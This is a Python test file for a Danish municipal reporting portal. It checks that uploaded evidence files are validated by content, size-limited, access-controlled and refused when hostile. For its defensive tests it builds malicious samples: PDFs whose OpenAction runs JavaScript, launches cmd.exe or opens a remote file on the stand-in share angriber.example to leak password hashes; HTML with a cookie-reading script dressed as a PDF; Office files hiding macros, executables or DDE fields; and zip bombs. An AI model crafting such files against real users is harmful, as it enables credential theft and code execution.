"""Evidence a municipality uploads with a report line: accepted by content, refused in Danish when
too large or disguised, kept or removed on purpose, and served only to the municipality and its
region's secretariat, never cached. What could harm the reader is refused: a PDF that acts when
opened, opens an address or plays remote media by itself or points at a network share, HTML
dressed as a PDF, an Office file carrying a program, a macro, an embedded object, a DDE field or
formula or anything fetched from elsewhere, a zip bomb; ordinary Word, Excel and PDF files pass.
A file built to be slow to check is refused within about a second; an upload past the limit,
alone or with many others, is not read to the end, and more than three files are refused with
what was typed kept."""

import io
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.urls import reverse

from goals import evidence
from tests import evidence_files
from tests.builders import filled_in
from tests.builders import first_line
from tests.builders import post_file
from tests.builders import post_report
from tests.builders import small_pdf
from tests.builders import with_evidence

pytestmark = pytest.mark.django_db


def _open_action(kind, key, value):
    def add(writer):
        from pypdf.generic import DictionaryObject
        from pypdf.generic import NameObject
        from pypdf.generic import TextStringObject

        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
        )

    return add


_javascript_on_open = _open_action("/JavaScript", "/JS", "app.alert('kørt ved åbning');")


_launch_on_open = _open_action("/Launch", "/F", "cmd.exe")


def _embedded_file(writer):
    writer.add_attachment("virus.exe", b"MZ\x90\x00")


def _zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def office_file(part):
    """An Office package of one part (a Word document, a workbook, or not Office at all)."""
    return _zip([("[Content_Types].xml", "<Types/>"), (part, "<document/>")])


def _office(entries):
    """A Word document with `entries` (name, content) inside."""
    return _zip(
        [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<document/>"), *entries]
    )


def _content_types(*overrides):
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    return f'<?xml version="1.0"?><Types xmlns="x">{parts}</Types>'


class _CountingHandler(FileUploadHandler):
    """An upload handler after the portal's own that counts what reaches it (`received`)."""

    received = []

    def receive_data_chunk(self, raw_data, start):
        _CountingHandler.received.append(len(raw_data))
        return raw_data

    def file_complete(self, file_size):
        return None


@pytest.fixture
def received(settings):
    """Bytes of uploads read past the portal's handler, with a limit of 64 KB a file."""
    settings.EVIDENCE_MAX_BYTES = 64 * 1024
    settings.FILE_UPLOAD_HANDLERS = [
        *settings.FILE_UPLOAD_HANDLERS[:1],
        f"{__name__}._CountingHandler",
        *settings.FILE_UPLOAD_HANDLERS[1:],
    ]
    _CountingHandler.received = []
    return _CountingHandler.received


def test_a_real_small_pdf_is_saved_and_served_to_the_municipality(reporter, report):
    content = small_pdf()
    response, line = post_file(reporter, report, SimpleUploadedFile("Akutplan 2025.pdf", content))

    assert "Kladden er gemt" in response.content.decode()
    assert line.evidence_file.name.endswith(".pdf")
    download = reporter.get(reverse("goals:evidence_file", args=[line.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert b"".join(download.streaming_content) == content


@pytest.mark.parametrize(
    ("name", "content", "stored_as"),
    [
        ("notat.docx", office_file("word/document.xml"), ".docx"),
        ("tal.xlsx", office_file("xl/workbook.xml"), ".xlsx"),
        ("foto.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, ".png"),
        ("foto.jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 64, ".jpg"),
        # named wrongly, stored after what it is
        ("skema.pdf", office_file("xl/workbook.xml"), ".xlsx"),
    ],
)
def test_office_files_and_images_are_accepted_by_content(
    reporter, report, name, content, stored_as
):
    _response, line = post_file(reporter, report, SimpleUploadedFile(name, content))
    assert line.evidence_file.name.endswith(stored_as)


def assert_refused(reporter, report, upload, says):
    """The upload is refused with `says` beside its field, and nothing of the save is kept."""
    response, line = post_file(reporter, report, upload)
    page = response.content.decode()
    assert says in page
    assert "Indberetningen er ikke gemt" in page
    assert not line.evidence_file


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("rapport.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200),  # an .exe
        ("notat.docx", office_file("payload.bin")),  # a zip, but not a Word document
        ("side.pdf", b"<html><script>alert(1)</script></html>"),
    ],
)
def test_a_disguised_file_is_refused_next_to_its_field(reporter, report, name, content):
    assert_refused(reporter, report, SimpleUploadedFile(name, content), "Filtypen kan ikke bruges")
    report.refresh_from_db()
    assert report.version == 1


def test_a_file_over_the_limit_is_refused(reporter, report, settings):
    settings.EVIDENCE_MAX_BYTES = 2048
    content = small_pdf() + b"%" * 4096
    response, line = post_file(reporter, report, SimpleUploadedFile("stor.pdf", content))
    text = response.content.decode()
    assert "Filen er for stor" in text
    assert "2,0" in text and "KB" in text  # the limit, in Danish number format
    assert not line.evidence_file


def test_the_default_limit_is_ten_megabytes(reporter, report, settings):
    assert settings.EVIDENCE_MAX_BYTES == 10 * 1024 * 1024
    content = small_pdf() + b"%" * (settings.EVIDENCE_MAX_BYTES + 1)
    response, line = post_file(reporter, report, SimpleUploadedFile("stor.pdf", content))
    assert "Filen er for stor" in response.content.decode()
    assert not line.evidence_file


def test_a_saved_file_is_kept_when_the_form_has_an_error_and_can_be_removed(reporter, report):
    _response, line = post_file(reporter, report, SimpleUploadedFile("a.pdf", small_pdf()))
    saved = line.evidence_file.name
    report.refresh_from_db()

    key = f"line-{line.milestone_id}"
    response, line = post_file(reporter, report, b"", **{f"{key}-evidence_url": "ikke et link"})
    text = response.content.decode()
    assert "Indtast en gyldig URL." in text
    assert "Gemt fil:" in text
    assert line.evidence_file.name == saved

    response, line = post_file(reporter, report, b"", **{f"{key}-clear_evidence_file": "on"})
    assert "Kladden er gemt" in response.content.decode()
    assert not line.evidence_file


def test_an_empty_file_is_refused_in_danish(reporter, report):
    line = first_line(report)
    upload = SimpleUploadedFile("tom.pdf", b"")
    data = filled_in(report, **{f"line-{line.milestone_id}-evidence_file": upload})

    response = post_report(reporter, report, data)

    text = response.content.decode()
    assert "Den medsendte fil er tom." in text
    assert "Vælg eventuelle nye filer igen" in text
    line.refresh_from_db()
    assert not line.evidence_file


@pytest.mark.parametrize(("extra", "saved"), [(0, True), (1, False)])
def test_a_file_of_exactly_the_limit_is_saved_one_byte_more_is_refused(
    reporter, report, settings, extra, saved
):
    content = evidence_files.padded_pdf(settings.EVIDENCE_MAX_BYTES + extra)
    line = first_line(report)
    upload = SimpleUploadedFile("plan.pdf", content)
    data = filled_in(report, **{f"line-{line.milestone_id}-evidence_file": upload})

    response = post_report(reporter, report, data)

    line.refresh_from_db()
    assert bool(line.evidence_file) is saved
    if not saved:
        assert "Filen er for stor" in response.content.decode()


def test_evidence_is_served_to_its_municipality_and_region_only(
    client, reporters, secretariat, other_secretariat, other_reporter, report
):
    report, line = with_evidence(report, reporters[101])
    empty = report.lines.filter(evidence_file="").first()
    url = reverse("goals:evidence_file", args=[line.pk])
    for user, status in [
        (reporters[101], 200),
        (secretariat, 200),
        (reporters[147], 404),
        (other_reporter, 404),
        (other_secretariat, 404),
    ]:
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == status, user
        if status == 200:
            # Downloaded, never shown inline, and the browser may not guess another type.
            assert response["Content-Disposition"].startswith("attachment")
            assert response["X-Content-Type-Options"] == "nosniff"
    client.force_login(reporters[101])
    assert client.get(reverse("goals:evidence_file", args=[empty.pk])).status_code == 404
    client.logout()
    response = client.get(url)
    assert response.status_code == 302 and "/konto/login/" in response["Location"]


@pytest.mark.parametrize(
    ("name", "build", "says"),
    [
        ("script.pdf", lambda: small_pdf(_javascript_on_open), "aktivt indhold"),
        ("launch.pdf", lambda: small_pdf(_launch_on_open), "aktivt indhold"),
        ("bilag.pdf", lambda: small_pdf(_embedded_file), "aktivt indhold"),
        (
            "side.pdf",
            lambda: b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>",
            "HTML",
        ),
        ("program.docx", lambda: _office([("word/media/setup.exe", b"MZ\x90\x00")]), "programmer"),
        ("makro.docx", lambda: _office([("word/vbaProject.bin", b"\xd0\xcf")]), "programmer"),
        (
            "bombe.docx",
            lambda: _office([("word/fyld.xml", b"\0" * (150 * 1024 * 1024))]),
            "alt for meget",
        ),
        (
            "mange.docx",
            lambda: _office([(f"word/d{i}.xml", b"") for i in range(5000)]),
            "alt for meget",
        ),
    ],
)
def test_an_active_or_disguised_upload_is_refused(reporter, report, name, build, says):
    assert_refused(reporter, report, SimpleUploadedFile(name, build()), says)


@pytest.mark.parametrize(
    "build",
    [
        # A zip inside the document with a program in it.
        lambda: _office([("word/embeddings/pakke.zip", _zip([("setup.exe", b"MZ\x90\x00")]))]),
        # A program named like a picture.
        lambda: _office([("word/media/image1.png", b"MZ\x90\x00\x03\x00\x00\x00")]),
        # A program whose name ends in a space.
        lambda: _office([("word/setup.exe ", b"MZ\x90\x00")]),
        # An embedded object (how Office packages carry programs and exploits) under a new name.
        lambda: _office([("word/embeddings/objekt.dat", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")]),
        # The macro project under another name: Office finds it by its content type.
        lambda: _zip(
            [
                (
                    "[Content_Types].xml",
                    _content_types(("/word/makro.dat", "application/vnd.ms-office.vbaProject")),
                ),
                ("word/document.xml", "<document/>"),
                ("word/makro.dat", b"makroprojekt"),
            ]
        ),
    ],
    ids=["zip-in-docx", "exe-as-png", "exe-with-space", "ole-renamed", "macro-renamed"],
)
def test_an_office_document_hiding_a_program_or_macro_under_another_name_is_refused(
    reporter, report, build
):
    response, line = post_file(reporter, report, SimpleUploadedFile("plan.docx", build()))
    page = response.content.decode()

    assert "programmer eller makroer" in page
    assert not line.evidence_file


def test_an_office_document_with_a_chart_workbook_inside_is_still_accepted(reporter, report):
    """Word keeps a chart's data as a whole workbook inside the document: that is no attack."""
    workbook = _zip([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")])
    content = _office([("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)])

    _response, line = post_file(reporter, report, SimpleUploadedFile("rapport.docx", content))

    assert line.evidence_file.name.endswith(".docx")


def test_a_pdf_that_opens_a_remote_file_on_opening_is_refused(reporter, report):
    """/GoToR to a network share makes Windows send the user's password hash there."""

    def add(writer):
        from pypdf.generic import ArrayObject
        from pypdf.generic import DictionaryObject
        from pypdf.generic import NameObject
        from pypdf.generic import NumberObject
        from pypdf.generic import TextStringObject

        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoToR"),
                NameObject("/F"): TextStringObject(r"\\angriber.example\del\x.pdf"),
                NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
            }
        )

    response, line = post_file(reporter, report, SimpleUploadedFile("plan.pdf", small_pdf(add)))
    page = response.content.decode()

    assert "aktivt indhold" in page
    assert not line.evidence_file


def test_an_upload_past_the_limit_is_not_read_to_the_end(reporter, report, settings, received):
    """The 200 MB attack, scaled down: past the limit the handler stops reading."""
    response, line = post_file(
        reporter, report, SimpleUploadedFile("stor.pdf", b"%PDF-1.7\n" + b"%" * (4 * 1024 * 1024))
    )
    page = response.content.decode()

    assert "er for stor" in page
    assert not line.evidence_file
    assert sum(received) <= settings.EVIDENCE_MAX_BYTES
    report.refresh_from_db()
    assert report.version == 1


def test_many_files_each_under_the_limit_are_not_all_read(reporter, report, received):
    """The 200 MB attack split in files of 10 MB each, scaled down: the request as a whole
    is cut off too, not only each file."""
    files = {  # 30 × 60 KB: every file under the limit, 1.8 MB in all
        f"fyld-{i}": SimpleUploadedFile(f"fyld{i}.pdf", b"%PDF-1.7\n" + b"%" * 60_000)
        for i in range(30)
    }

    response = reporter.post(f"/indberetning/{report.pk}/", filled_in(report, **files), follow=True)

    assert "fylder for meget tilsammen" in response.content.decode()
    assert sum(received) <= evidence.request_limit() < 30 * 60_000
    report.refresh_from_db()
    assert report.version == 1


def test_a_replaced_evidence_file_is_removed_once_nothing_refers_to_it(reporter, report, settings):
    from django.core.management import call_command

    from goals.models import MilestoneStatus

    _response, line = post_file(reporter, report, SimpleUploadedFile("første.pdf", small_pdf()))
    first = line.evidence_file.name
    report.refresh_from_db()
    _response, line = post_file(reporter, report, SimpleUploadedFile("anden.pdf", small_pdf()))
    second = line.evidence_file.name
    media = settings.MEDIA_ROOT
    assert (media / first).exists()  # the history still shows the first version

    # The history of that version is cleaned away: the file goes with it, the current stays.
    MilestoneStatus.history.filter(evidence_file=first).delete()
    call_command("prune_evidence", stdout=io.StringIO())

    assert not (media / first).exists()
    assert (media / second).exists()


def test_an_evidence_download_is_never_cached(reporter, report):
    _response, line = post_file(reporter, report, SimpleUploadedFile("plan.pdf", small_pdf()))

    response = reporter.get(f"/indberetning/bilag/{line.pk}/")

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


# --- issue 20: what the formats can do, checked within a bounded time ---------------------------


@pytest.mark.parametrize(
    ("name", "build", "says"),
    [
        ("skabelon.docx", evidence_files.template_from_the_web, "henter indhold uden for sig"),
        ("billede.docx", evidence_files.picture_from_a_share, "henter indhold uden for sig"),
        ("bilag.docx", evidence_files.rtf_with_an_object, "indlejrede objekter"),
        ("felt.docx", evidence_files.dde_field_in_word, "felter eller formler"),
        ("formel.xlsx", evidence_files.dde_formula_in_excel, "felter eller formler"),
        ("kæde.xlsx", evidence_files.dde_link_in_excel, "felter eller formler"),
        ("åbner.pdf", evidence_files.uri_on_opening, "åbner selv en adresse"),
        ("film.pdf", evidence_files.remote_rendition, "åbner selv en adresse"),
        ("share.pdf", evidence_files.file_link, "henviser til en fil eller et netværksdrev"),
        # The same capabilities, written otherwise.
        ("vml.docx", evidence_files.vml_picture_from_a_share, "henter indhold uden for sig"),
        ("utf16.docx", evidence_files.template_from_the_web_in_utf16, "henter indhold uden for"),
        ("link.docx", evidence_files.link_to_a_file, "henter indhold uden for sig"),
        ("felt.docx", evidence_files.picture_field_from_the_web, "felter eller formler"),
        ("web.xlsx", evidence_files.webservice_formula, "felter eller formler"),
        ("pakket.pdf", evidence_files.script_in_an_object_stream, "aktivt indhold"),
        ("hover.pdf", evidence_files.link_that_opens_on_hover, "åbner selv en adresse"),
        ("reference.pdf", evidence_files.uri_named_by_reference, "åbner selv en adresse"),
        # A `>` inside a quoted attribute value does not end the tag.
        ("gt.docx", evidence_files.template_behind_a_quoted_gt, "henter indhold uden for sig"),
        ("gt-felt.docx", evidence_files.dde_field_behind_a_quoted_gt, "felter eller formler"),
        ("gt.xlsx", evidence_files.webservice_formula_behind_a_quoted_gt, "felter eller formler"),
        ("ekstern.xlsx", evidence_files.formula_from_a_workbook_on_the_web, "henter indhold uden"),
    ],
    ids=[
        "attachedTemplate-http",
        "image-from-a-share",
        "altChunk-rtf-objdata",
        "dde-field-docx",
        "dde-formula-xlsx",
        "dde-link-xlsx",
        "uri-openaction",
        "remote-rendition",
        "file-link",
        "vml-picture-from-a-share",
        "attachedTemplate-in-utf16",
        "hyperlink-to-a-file",
        "includepicture-http",
        "webservice-formula",
        "javascript-escaped-in-an-object-stream",
        "link-with-a-uri-on-hover",
        "uri-named-by-reference",
        "attachedTemplate-behind-a-quoted-gt",
        "dde-field-behind-a-quoted-gt",
        "webservice-formula-behind-a-quoted-gt",
        "formula-from-a-workbook-on-the-web",
    ],
)
def test_a_document_that_runs_or_fetches_something_is_refused(reporter, report, name, build, says):
    assert_refused(reporter, report, SimpleUploadedFile(name, build()), says)


def _weasyprint_pdf():
    """A PDF as the portal's own papers are made, with a link a reader may click."""
    from weasyprint import HTML

    html = (
        "<h1>Status på akutfunktionen</h1><p>Se <a href='https://www.sundhed.dk/'>sundhed.dk"
        "</a> og <a href='mailto:kkr@example.dk'>sekretariatet</a>.</p>"
    )
    return HTML(string=html).write_pdf()


@pytest.mark.parametrize(
    ("name", "build", "stored_as"),
    [
        ("notat.docx", evidence_files.word_document, ".docx"),
        ("tal.xlsx", evidence_files.excel_workbook, ".xlsx"),
        ("udskrift.xlsx", evidence_files.excel_with_printer_settings, ".xlsx"),
        ("tabel.xlsx", evidence_files.workbook_with_a_table_column, ".xlsx"),
        ("links.pdf", evidence_files.web_link, ".pdf"),
        ("papir.pdf", _weasyprint_pdf, ".pdf"),
    ],
    ids=[
        "word",
        "excel",
        "excel-with-printer-settings",
        "excel-with-a-table-column",
        "pdf-with-a-link",
        "weasyprint-pdf",
    ],
)
def test_ordinary_documents_with_links_fields_and_formulas_are_accepted(
    reporter, report, name, build, stored_as
):
    """A table of contents, page numbers, a picture, links to web pages, sums: all ordinary."""
    response, line = post_file(reporter, report, SimpleUploadedFile(name, build()))

    assert "Kladden er gemt" in response.content.decode()
    assert line.evidence_file.name.endswith(stored_as)


@pytest.fixture
def checker():
    """The fork server started, as gunicorn starts it with each worker: a timed upload
    measures the check, not the server's start."""
    evidence.start_checker()


def test_a_pdf_of_199000_objects_is_refused_at_once(reporter, report, checker):
    """Issue 20's PDF: 1.9 MB, 199,000 objects in object streams; 18-22 s to upload before."""
    content = evidence_files.many_objects_pdf(199_000)
    started = time.monotonic()

    response, line = post_file(reporter, report, SimpleUploadedFile("mange.pdf", content))

    # The check itself takes about 0.1 s; the rest is the page, on a machine maybe busy.
    assert time.monotonic() - started < 5
    assert "for mange dele" in response.content.decode()
    assert not line.evidence_file


def test_a_file_too_slow_to_check_is_refused_within_about_a_second(
    reporter, report, checker, settings
):
    """Under the object limit, but about a second's work for the reader: the limit ends the
    check and the sentence says so. The limit is set well under that work here, so a fast
    machine that would read the file in time still shows the refusal."""
    settings.EVIDENCE_CHECK_SECONDS = 0.25
    content = evidence_files.many_objects_pdf(48_000)
    started = time.monotonic()

    response, line = post_file(reporter, report, SimpleUploadedFile("tung.pdf", content))

    assert time.monotonic() - started < 5
    page = response.content.decode()
    assert "Filen kunne ikke kontrolleres inden for tidsgrænsen" in page
    assert "Indberetningen er ikke gemt" in page
    assert not line.evidence_file


def test_three_files_too_slow_to_check_hold_the_save_a_few_seconds_only(
    reporter, report, checker, settings
):
    """Three such files: their checks share the save's time (here two checks' worth, so the
    third finds none left); each is refused in words."""
    settings.EVIDENCE_CHECK_SECONDS = 0.25
    settings.EVIDENCE_CHECK_REQUEST_SECONDS = 0.5
    content = evidence_files.many_objects_pdf(48_000)
    lines = list(report.lines.all())[:3]
    files = {
        f"line-{line.milestone_id}-evidence_file": SimpleUploadedFile(f"t{i}.pdf", content)
        for i, line in enumerate(lines)
    }
    started = time.monotonic()

    response = post_report(reporter, report, filled_in(report, **files))

    assert time.monotonic() - started < 7
    page = response.content.decode()
    assert page.count("Filen kunne ikke kontrolleres inden for tidsgrænsen") == len(lines)
    report.refresh_from_db()
    assert report.version == 1


def test_more_than_three_files_are_refused_and_what_was_typed_stays(reporter, report):
    """Five files in one save: none is checked or saved, and the comments typed are shown
    again to save with fewer files."""
    lines = list(report.lines.all())
    files = {
        f"line-{lines[i % len(lines)].milestone_id}-evidence_file": SimpleUploadedFile(
            f"bilag{i}.pdf", small_pdf()
        )
        for i in range(len(lines))
    }
    extra = {f"bilag-{i}": SimpleUploadedFile(f"ekstra{i}.pdf", small_pdf()) for i in range(5)}
    data = filled_in(report, comment="Skrevet før upload", **files, **extra)

    response = post_report(reporter, report, data)

    page = response.content.decode()
    assert response.status_code == 200
    assert "Der kan højst gemmes 3 filer ad gangen" in page
    assert "Skrevet før upload" in page
    report.refresh_from_db()
    assert report.version == 1
    assert not report.lines.exclude(evidence_file="").exists()


def test_three_files_in_one_save_are_all_kept(reporter, report):
    lines = list(report.lines.all())[:3]
    files = {
        f"line-{line.milestone_id}-evidence_file": SimpleUploadedFile(f"b{i}.pdf", small_pdf())
        for i, line in enumerate(lines)
    }

    response = reporter.post(f"/indberetning/{report.pk}/", filled_in(report, **files), follow=True)

    assert "Kladden er gemt" in response.content.decode()
    assert report.lines.exclude(evidence_file="").count() == len(lines)
